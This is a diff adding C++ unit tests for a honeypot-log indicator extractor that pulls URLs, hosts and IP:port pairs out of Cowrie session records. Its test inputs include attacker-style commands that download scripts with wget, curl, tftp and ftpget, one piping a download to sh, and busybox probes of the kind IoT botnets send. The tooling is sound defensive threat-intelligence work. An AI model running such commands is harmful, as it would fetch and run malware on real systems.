@@ -3,6 +3,7 @@
 // seen, sessions and source addresses; the CSV export.
 #include <gtest/gtest.h>
 
+#include <cstdio>
 #include <set>
 
 #include "analyze/intel/indicator_extractor.h"
@@ -58,6 +59,21 @@ TEST(IntelIndicators, UrlsInsideScriptsAndIpPortWords) {
   EXPECT_EQ(of_type("echo \"curl https://a.example/b|sh\" > /tmp/s", IndicatorType::Url), Set{"https://a.example/b"});
   EXPECT_EQ(of_type("./bot 203.0.113.5:23", IndicatorType::IpPort), Set{"203.0.113.5:23"});
   EXPECT_EQ(of_type("echo 999.1.1.1:80 1.2.3:4", IndicatorType::IpPort), Set{});
+}
+
+// The prefilter skips records without a URL, a port or a host, such as a scanner's probe of
+// which download tools exist, and keeps those the extractor finds something in.
+TEST(IntelIndicators, PrefilterSkipsToolNamesWithoutAHost) {
+  using intel::IndicatorExtractor;
+  EXPECT_FALSE(IndicatorExtractor::may_have_indicators("tftp; wget; /bin/busybox QWMES"));
+  EXPECT_FALSE(IndicatorExtractor::may_have_indicators("cd /tmp; curl"));
+  EXPECT_FALSE(IndicatorExtractor::may_have_indicators("cat .s; /bin/busybox ECCHI"));
+  EXPECT_TRUE(IndicatorExtractor::may_have_indicators("wget example.com/x"));
+  EXPECT_EQ(of_type("wget example.com/x", IndicatorType::Host), Set{"example.com"});
+  EXPECT_EQ(of_type("tftp -g -r a 10.0.0.1", IndicatorType::Host), Set{"10.0.0.1"});
+  EXPECT_EQ(of_type("ftpget -v 10.0.0.2 l r", IndicatorType::Host), Set{"10.0.0.2"});
+  EXPECT_EQ(of_type("echo 10.0.0.3:23", IndicatorType::IpPort), Set{"10.0.0.3:23"});
+  EXPECT_EQ(of_type("sh -c \"x=http://h.example/a\"", IndicatorType::Url), Set{"http://h.example/a"});
 }
 
 TEST(IntelIndicators, HostileInputIsBounded) {
@@ -124,6 +140,82 @@ TEST(IntelIndicators, PipelineCountsSessionsSourcesAndTimesAndExportsCsv) {
     EXPECT_NE(stix.find(R"("pattern":"[file:hashes.'SHA-256' = ')" + sha + R"(']")"), std::string::npos);
     EXPECT_NE(stix.find(R"("first_observed":"2024-05-01T00:00:01.000000Z","last_observed":"2024-05-02T00:00:01.000000Z")"),
               std::string::npos);
+  }
+}
+
+// Reads facts->indicators: the Analysis then lists every occurrence there instead of keeping a
+// command record's indicators with its item.
+class IndicatorReader final : public SessionObserver {
+ public:
+  void session_finished(const Analysis&, const FinishedSession& session) override {
+    listed += session.facts->indicators.size();
+  }
+  std::uint64_t listed = 0;
+};
+
+// The per-session limit keeps the first kMaxPendingIndicators occurrences in input order, a
+// download event's in between the records' and part of a record's when the limit falls inside
+// it, whether the occurrences are kept with the records or listed for an observer.
+TEST(IntelIndicators, RecordsKeepTheirIndicatorsUpToTheSessionLimitLikeAListingObserver) {
+  testing::TempDir dir;
+  auto ev = [](const std::string& id, const std::string& session, int second, const std::string& more) {
+    char ts[32];
+    std::snprintf(ts, sizeof ts, "2024-05-01T00:%02d:%02dZ", second / 60, second % 60);
+    return R"({"eventid":")" + id + R"(","session":")" + session + R"(","timestamp":")" + ts + "\"" + more + "}\n";
+  };
+  const std::string wget = R"(,"input":"wget http://203.0.113.9/a.sh")";  // url, host, file name
+  std::string log = ev("cowrie.session.connect", "s1", 0, R"(,"src_ip":"192.0.2.1")");
+  for (int i = 0; i < 400; ++i) {
+    log += ev("cowrie.command.input", "s1", i, wget);
+    // 3 more occurrences: 1021 before the limit is not a multiple of 3, so one record is cut.
+    if (i == 200) log += ev("cowrie.session.file_download", "s1", i, R"(,"url":"http://198.51.100.4/b.sh")");
+  }
+  log += ev("cowrie.command.input", "s1", 400, R"(,"input":"curl http://198.51.100.7/late.sh")");
+  log += ev("cowrie.session.closed", "s1", 401, "");
+  log += ev("cowrie.command.input", "s2", 402, wget) + ev("cowrie.session.closed", "s2", 403, "");
+  const std::string path = dir.file("limit.json", log);
+  const std::size_t total = 400 * 3 + 3 + 3;
+  const std::size_t dropped = total - intel::kMaxPendingIndicators;
+  for (std::size_t chunk : {std::size_t{8} << 20, std::size_t{900}}) {
+    AnalysisOptions options;
+    options.intel.indicators = true;
+    options.chunk_bytes = chunk;
+    Analysis kept(options), listed(options);
+    IndicatorReader reader;
+    listed.add_observer(&reader);
+    for (Analysis* analysis : {&kept, &listed}) {
+      PipelineReport pipeline;
+      std::string error;
+      ASSERT_TRUE(AnalyzePipeline(options).run({path}, *analysis, pipeline, error)) << error;
+    }
+    EXPECT_EQ(reader.listed, intel::kMaxPendingIndicators + 3);
+    for (const Analysis* analysis : {&kept, &listed}) {
+      const intel::IntelCounts& counts = analysis->intel();
+      EXPECT_EQ(counts.indicators_dropped(), dropped);
+      std::map<std::string, std::uint64_t> occurrences;
+      for (std::uint32_t id = 0; id < counts.indicators().size(); ++id) {
+        if (counts.indicators()[id].occurrences > 0) occurrences[std::string(counts.keys().key(id)).substr(1)] =
+            counts.indicators()[id].occurrences;
+      }
+      // The record cut by the limit kept its URL alone; the late record is dropped whole.
+      EXPECT_EQ(occurrences["http://203.0.113.9/a.sh"], occurrences["203.0.113.9"] + 1);
+      EXPECT_EQ(occurrences["http://198.51.100.4/b.sh"], 1u);
+      EXPECT_EQ(occurrences.count("http://198.51.100.7/late.sh"), 0u);
+      std::uint64_t sum = 0;
+      for (const auto& [key, n] : occurrences) sum += n;
+      EXPECT_EQ(sum, intel::kMaxPendingIndicators + 3);
+    }
+    for (std::uint32_t id = 0; id < kept.intel().indicators().size(); ++id) {
+      const intel::IndicatorStats& a = kept.intel().indicators()[id];
+      const intel::IndicatorStats& b = listed.intel().indicators()[id];
+      EXPECT_EQ(a.occurrences, b.occurrences) << id;
+      EXPECT_EQ(a.sessions, b.sessions) << id;
+      EXPECT_EQ(a.first_seen, b.first_seen) << id;
+      EXPECT_EQ(a.last_seen, b.last_seen) << id;
+      EXPECT_EQ(std::vector<std::uint32_t>(a.source_ips().begin(), a.source_ips().end()),
+                std::vector<std::uint32_t>(b.source_ips().begin(), b.source_ips().end()))
+          << id;
+    }
   }
 }
 
